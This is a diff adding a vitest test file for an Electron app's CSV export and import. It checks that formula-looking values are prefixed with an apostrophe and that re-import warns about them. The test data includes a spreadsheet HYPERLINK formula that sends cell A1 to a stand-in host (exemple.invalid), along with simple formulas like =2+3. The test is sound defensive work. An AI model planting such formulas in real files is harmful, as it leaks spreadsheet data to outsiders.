@@ -1,0 +1,203 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import Papa from 'papaparse';
+import { afterAll, describe, expect, it } from 'vitest';
+import { createBackend } from '../../electron/backend/backend';
+import { frozenClock } from '../../electron/backend/clock';
+import type { ActorInput } from '../../shared/actors/schemas';
+import { fictitiousSiret } from '../../electron/backend/territory/demo/demoDirectory';
+import { useActorsBackend } from './support/actorsBackend';
+import { waitForImport } from './support/importJob';
+import { seedTerritory } from './support/seedTerritory';
+import { useTempDir } from './support/tempDir';
+
+/**
+ * Formula injection: names and addresses a spreadsheet would run (`=HYPERLINK(…)`, `=2+3`) reach LibreOffice
+ * as text from both CSV exports; numbers and telephone numbers stay as they are; the standard CSV read back
+ * into Maillage gives the values as typed, without quotes piling up, and the import warns about them.
+ */
+
+const HYPERLINK = '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez ici")';
+
+const payload: ActorInput = {
+  name: HYPERLINK,
+  siret: fictitiousSiret('8123456780009'),
+  roles: ['lieu_mediation'],
+  address: '=2+3',
+  addressComplement: '@SUM(1+1)',
+  communeCode: '38185',
+  postcode: '38000',
+  latitude: 45.18,
+  longitude: -0.5,
+  otherLabels: '-2+3',
+  lastVerifiedOn: '2026-03-01',
+  places: [
+    {
+      name: HYPERLINK,
+      address: '=2+3',
+      addressComplement: '@SUM(1+1)',
+      postcode: '38000',
+      communeCode: '38185',
+      latitude: 45.18,
+      longitude: -0.5,
+      phone: '+33 5 49 00 00 00',
+    },
+  ],
+};
+
+const rowsOf = (csv: string) =>
+  Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
+
+/** LibreOffice Calc is optional on our machines (CI installs Writer only): the spreadsheet check needs it. */
+const scratch = mkdtempSync(join(tmpdir(), 'maillage-calc-'));
+afterAll(() => rmSync(scratch, { recursive: true, force: true }));
+
+function toOds(csvPath: string, filter: string): string | null {
+  try {
+    execFileSync(
+      'soffice',
+      [
+        `-env:UserInstallation=file://${join(scratch, 'profile')}`,
+        '--headless',
+        `--infilter=${filter}`,
+        '--convert-to',
+        'ods',
+        '--outdir',
+        scratch,
+        csvPath,
+      ],
+      { stdio: 'pipe', timeout: 120_000 },
+    );
+    const ods = csvPath.replace(/\.csv$/, '.ods');
+    return execFileSync('unzip', ['-p', ods, 'content.xml'], { encoding: 'utf8' });
+  } catch {
+    return null;
+  }
+}
+
+const hasCalc = (() => {
+  const probe = join(scratch, 'probe.csv');
+  writeFileSync(probe, 'a\r\n1\r\n');
+  return toOds(probe, 'CSV:44,34,76,1') !== null;
+})();
+
+describe('formula injection in the CSV exports', () => {
+  const api = useActorsBackend();
+
+  it('writes formula-looking values with a leading quote, numbers and telephone numbers as they are', async () => {
+    api.open();
+    await api.create(payload);
+    const standard = await api.ok('export.file', { format: 'standardCsv' });
+    const [row] = rowsOf(standard.content);
+    expect(row).toMatchObject({
+      nom: `'${HYPERLINK}`,
+      adresse: "'=2+3",
+      complement_adresse: "'@SUM(1+1)",
+      autres_formations_labels: "'-2+3",
+      longitude: '-0.5',
+      telephone: '+33549000000',
+    });
+
+    const excel = await api.ok('export.file', { format: 'excelCsv' });
+    const [line] = rowsOf(excel.content);
+    expect(line).toMatchObject({
+      Acteur: `'${HYPERLINK}`,
+      Lieu: `'${HYPERLINK}`,
+      Adresse: "'=2+3",
+      Longitude: '-0,5',
+      Téléphone: '+33 5 49 00 00 00',
+    });
+  });
+
+  it.skipIf(!hasCalc)('is read by LibreOffice as text: no formula, no link', async () => {
+    api.open();
+    await api.create(payload);
+    const standard = await api.ok('export.file', { format: 'standardCsv' });
+    const excel = await api.ok('export.file', { format: 'excelCsv' });
+    writeFileSync(join(scratch, 'standard.csv'), standard.content);
+    writeFileSync(join(scratch, 'excel.csv'), excel.content);
+
+    const contents = new Map<string, string | null>();
+    for (const [file, filter] of [
+      ['standard.csv', 'CSV:44,34,76,1'],
+      ['excel.csv', 'CSV:59,34,76,1'],
+    ] as const) {
+      const content = toOds(join(scratch, file), filter);
+      contents.set(file, content);
+      expect(content, file).not.toBeNull();
+      expect(content, file).not.toContain('table:formula');
+      expect(content, file).not.toContain('xlink:href');
+      expect(content, file).toContain('<text:p>&apos;=2+3</text:p>');
+      expect(content, file).toContain('HYPERLINK(');
+    }
+    // The telephone number and the negative longitude are values, not text starting with a quote.
+    const standardXml = contents.get('standard.csv')!;
+    expect(standardXml).toContain('office:value="-0.5"');
+    expect(standardXml).not.toContain('&apos;+33');
+  });
+
+  it('was evaluated before the rule: the same file without quotes makes LibreOffice compute 5', () => {
+    if (!hasCalc) return;
+    // A guard on the check itself: if LibreOffice stopped evaluating formulas, the test above would prove nothing.
+    writeFileSync(join(scratch, 'raw.csv'), 'a,b\r\n=2+3,x\r\n');
+    const content = toOds(join(scratch, 'raw.csv'), 'CSV:44,34,76,1')!;
+    expect(content).toContain('table:formula="of:=2+3"');
+  });
+});
+
+describe('reading our own standard CSV back', () => {
+  const api = useActorsBackend();
+  const tempDir = useTempDir();
+
+  it('gives back the values as typed, warns about each, and exports them again the same way', async () => {
+    api.open();
+    await api.create(payload);
+    const exported = await api.ok('export.file', { format: 'standardCsv' });
+
+    const second = createBackend({
+      databasePath: join(tempDir(), 'second.sqlite'),
+      clock: frozenClock('2026-04-05T10:00:00Z'),
+    });
+    try {
+      seedTerritory(second.ctx.sqlite);
+      const input = {
+        fileName: exported.fileName,
+        contentBase64: Buffer.from(exported.content).toString('base64'),
+      };
+      const preview = await second.router.dispatch('import.preview', input);
+      if (!preview.ok) throw new Error(preview.error.message);
+      const warned = preview.data.warnings.filter((w) => /formule/.test(w.reason));
+      expect(warned.map((w) => [w.line, w.field])).toEqual(
+        expect.arrayContaining([
+          [2, 'nom'],
+          [2, 'adresse'],
+          [2, 'complement_adresse'],
+          [2, 'autres_formations_labels'],
+        ]),
+      );
+      expect(warned.map((w) => w.field)).not.toContain('telephone');
+      expect(warned.map((w) => w.field)).not.toContain('longitude');
+      expect(warned.find((w) => w.field === 'adresse')!.reason).toBe(
+        'Valeur commençant par «\u00a0=\u00a0», qu’un tableur prendrait pour une formule : «\u00a0=2+3\u00a0». Elle est importée comme texte ; les exports CSV la précéderont d’une apostrophe.',
+      );
+
+      const started = await second.router.dispatch('import.start', input);
+      if (!started.ok) throw new Error(started.error.message);
+      expect((await waitForImport(second, started.data)).state).toBe('done');
+      const actors = second.ctx.sqlite.prepare('SELECT name, address, other_labels FROM actor').all();
+      expect(actors).toEqual([{ name: HYPERLINK, address: '=2+3', other_labels: '-2+3' }]);
+
+      const again = await second.router.dispatch('export.file', { format: 'standardCsv' });
+      if (!again.ok) throw new Error(again.error.message);
+      const [before] = rowsOf(exported.content);
+      const [after] = rowsOf(again.data.content);
+      expect(after!.nom).toBe(before!.nom);
+      expect(after!.adresse).toBe(before!.adresse);
+      expect(after!.autres_formations_labels).toBe(before!.autres_formations_labels);
+    } finally {
+      await second.close();
+    }
+  });
+});
